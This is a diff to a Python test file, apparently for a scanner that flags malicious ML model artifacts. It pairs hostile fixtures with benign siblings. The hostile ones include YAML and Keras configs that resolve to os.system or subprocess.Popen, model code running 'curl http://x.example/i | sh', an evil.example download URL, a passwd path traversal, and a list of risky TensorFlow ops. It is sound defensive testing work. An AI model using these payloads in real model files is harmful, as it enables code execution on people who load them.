@@ -3,6 +3,7 @@
 # ruff: noqa: E501  # one case a line reads as a table
 from __future__ import annotations
 
+import gzip
 import struct
 
 from tests.metamorphic.models.siblings.common import EVIL, case, tag, tarred, written, zipped
@@ -40,7 +41,6 @@ text("jsonpickle_object", {"state.json": written({"a": {"py/object": "subprocess
 text("haystack", {"pipeline.yaml": b"components:\n  x:\n    type: evil_mod.Evil\n    init_parameters: {}\nconnections: []\n"}, {"pipeline.yaml": b"components:\n  x:\n    type: haystack.components.builders.prompt_builder.PromptBuilder\n    init_parameters: {}\nconnections: []\n"})
 text("autogen", {"team.json": written({"provider": "evil_mod.Agent", "component_type": "agent", "version": 1, "config": {}})}, {"team.json": written({"provider": "autogen_agentchat.agents.AssistantAgent", "component_type": "agent", "version": 1, "config": {}})})
 text("mlserver", {"model-settings.json": written({"name": "m", "implementation": "evil_mod.Runtime"})}, {"model-settings.json": written({"name": "m", "implementation": "mlserver_sklearn.SKLearnModel", "parameters": {"uri": "./model.joblib"}})})
-text("ray_serve", {"serve.yaml": b"applications:\n- name: a\n  import_path: evil:app\n  runtime_env:\n    working_dir: https://evil.example/x.zip\n"}, {"notes.yaml": b"applications: 3\n"})
 text("triton_python", {"m/config.pbtxt": b'name: "m"\nbackend: "python"\n', "m/1/model.py": b"import os\nclass TritonPythonModel:\n    def initialize(self, a):\n        os.system('curl http://x.example/i | sh')\n"}, {"m/config.pbtxt": b'name: "m"\nbackend: "onnxruntime"\n'})
 text("megatron_core", {"adapter_config.json": written({**LORA, "megatron_core": "evil_mod", "megatron_config": {"a": 1}})}, {"adapter_config.json": written(LORA)})
 text("router_types", {"router_config.json": written({"types": {"query_0_X": "evil_mod.X"}, "structure": {"query": ["query_0_X"]}, "parameters": {}})}, {"router_config.json": written({"types": {"query_0_SparseStaticEmbedding": "sentence_transformers.sparse_encoder.models.SparseStaticEmbedding"}, "structure": {}, "parameters": {}})})
@@ -48,20 +48,17 @@ text("modular_diffusers", {"modular_model_index.json": written({"_class_name": "
 text("custom_generate_folder", {"config.json": CFG, "model.safetensors": ST, "custom_generate/generate.py": b"import os\ndef generate(model, **kw):\n    os.system('curl http://x.example/i | sh')\n"}, {"config.json": CFG, "model.safetensors": ST})
 text("mmengine_imports", {"config.json": written({"model_type": "x", "custom_imports": {"imports": ["evil_mod"], "allow_failed_imports": False}})}, {"config.json": written({"model_type": "x"})})
 text("vllm_speculative", {"config.json": written({"model_type": "llama", "speculative_config": {"model": "evil/repo", "trust_remote_code": True}})}, {"config.json": written({"model_type": "llama"})})
-text("timm_url", {"config.json": written({"architecture": "resnet18", "pretrained_cfg": {"url": "http://evil.example/x.pth", "custom_load": True}})}, {"config.json": written({"architecture": "resnet18", "num_classes": 10, "pretrained_cfg": {"hf_hub_id": "timm/resnet18.a1_in1k", "url": "", "input_size": [3, 224, 224]}})})
-text("bento", {"bentofile.yaml": b"service: 'evil:svc'\ndocker:\n  setup_script: ./evil.sh\n", "evil.sh": b"curl http://x.example/i | sh\n", "model.safetensors": ST}, {"notes.yaml": b"service: x\n"})
 text("processor_automap_nested", {"processor_config.json": written({"image_processor": {"auto_map": {"AutoImageProcessor": "evil/repo--x.X"}}})}, {"processor_config.json": written({"image_processor": {"size": 3}})})
 text("keras_typespec", {"m.keras": zipped({"metadata.json": b"{}", "config.json": written({"class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess", "registered_name": None, "config": [["id"]]})})}, {"m.keras": zipped({"metadata.json": b"{}", "config.json": written({"class_name": "Sequential", "module": "keras", "config": {"layers": []}})})})
 text("keras_folder", {"m/config.json": written({"class_name": "function", "config": "system", "module": "os", "registered_name": "function"})}, {"m/config.json": written({"class_name": "Functional", "module": "keras", "config": {}})})
-text("keras_compile_loss", {"m.keras": zipped({"metadata.json": b"{}", "config.json": written({"class_name": "Sequential", "module": "keras", "config": {}, "compile_config": {"loss": {"class_name": "function", "config": "system", "module": "os", "registered_name": "system"}}})})}, {"m.keras": zipped({"metadata.json": b"{}", "config.json": written({"class_name": "Sequential", "module": "keras", "config": {}, "compile_config": {"loss": {"class_name": "function", "config": "mse", "module": "builtins", "registered_name": "mse"}}})}) if False else zipped({"metadata.json": b"{}", "config.json": written({"class_name": "Sequential", "module": "keras", "config": {}, "compile_config": {"loss": "mse"}})})})
-text("nemo_gz", {"m.nemo": __import__("gzip").compress(tarred({"model_config.yaml": b"target: nemo.collections.asr.models.EncDecCTCModel\nx:\n  _target_: os.system\n"}))}, {"m.nemo": __import__("gzip").compress(tarred({"model_config.yaml": b"target: nemo.collections.asr.models.EncDecCTCModel\n"}))})
-text("readme_front_matter_tag", {"README.md": b"---\nx: !!python/object/apply:os.system [id]\n---\nA model.\n", "model.safetensors": ST}, {"README.md": CARD, "model.safetensors": ST})
+text("keras_compile_loss", {"m.keras": zipped({"metadata.json": b"{}", "config.json": written({"class_name": "Sequential", "module": "keras", "config": {}, "compile_config": {"loss": {"class_name": "function", "config": "system", "module": "os", "registered_name": "system"}}})})}, {"m.keras": zipped({"metadata.json": b"{}", "config.json": written({"class_name": "Sequential", "module": "keras", "config": {}, "compile_config": {"loss": {"class_name": "function", "config": "mse", "module": "builtins", "registered_name": "mse"}}})})})
+text("nemo_gz", {"m.nemo": gzip.compress(tarred({"model_config.yaml": b"target: nemo.collections.asr.models.EncDecCTCModel\nx:\n  _target_: os.system\n"}))}, {"m.nemo": gzip.compress(tarred({"model_config.yaml": b"target: nemo.collections.asr.models.EncDecCTCModel\n"}))})
 text("hparams_tag", {"hparams.yaml": b"lr: 0.1\nfn: !!python/name:os.system ''\n"}, {"hparams.yaml": b"lr: 0.1\nbetas: !!python/tuple [0.9, 0.99]\n"})
 
 # ---- 8 graphs
-for op in ("Save", "Restore", "RestoreSlice", "WriteSummary", "WriteGraphSummary", "WriteImageSummary", "WriteAudioSummary", "WriteScalarSummary", "StatsAggregatorSetSummaryWriter", "ExperimentalLMDBDataset",
-           "IO>FileRead", "IO>ArrowFeatherReadableInit", "GcsConfigureCredentials", "RemoteFusedGraphExecute", "_HostRecv", "PyFuncV2", "BigtableClient", "BigQueryClient", "TextLineDatasetV2", "DumpToFile", "LoadDatasetV3",
-           "IteratorFromStringHandle", "ExperimentalSnapshotDataset", "ReadFileV2", "DatasetToTFRecord", "ExperimentalDatasetToTFRecord", "CSVDataset", "ExperimentalCSVDatasetV2", "AudioMicrophone"):
+for op in ("ExperimentalLMDBDataset",
+           "IO>FileRead", "IO>ArrowFeatherReadableInit", "GcsConfigureCredentials", "RemoteFusedGraphExecute", "_HostRecv", "PyFuncV2", "BigtableClient", "BigQueryClient", "TextLineDatasetV2", "LoadDatasetV3",
+           "ExperimentalSnapshotDataset", "ReadFileV2", "DatasetToTFRecord", "ExperimentalDatasetToTFRecord", "CSVDataset", "ExperimentalCSVDatasetV2"):
     case("8", "tf3_" + op, {"sm/saved_model.pb": saved(["Placeholder", op], [])}, {"sm/saved_model.pb": saved(["Placeholder", "Relu", "SaveV2", "RestoreV2", "TensorArrayWriteV3", "IteratorV2"], [])})
 case("8", "asset_traversal", {"sm/saved_model.pb": b"\x08\x01" + tag(2, tag(1, tag(4, b"serve")) + tag(2, graph("Relu")) + tag(6, tag(1, tag(1, b"a")) + tag(2, b"../../../etc/passwd")))},
      {"sm/saved_model.pb": b"\x08\x01" + tag(2, tag(1, tag(4, b"serve")) + tag(2, graph("Relu")) + tag(6, tag(1, tag(1, b"a")) + tag(2, b"vocab.txt")))})
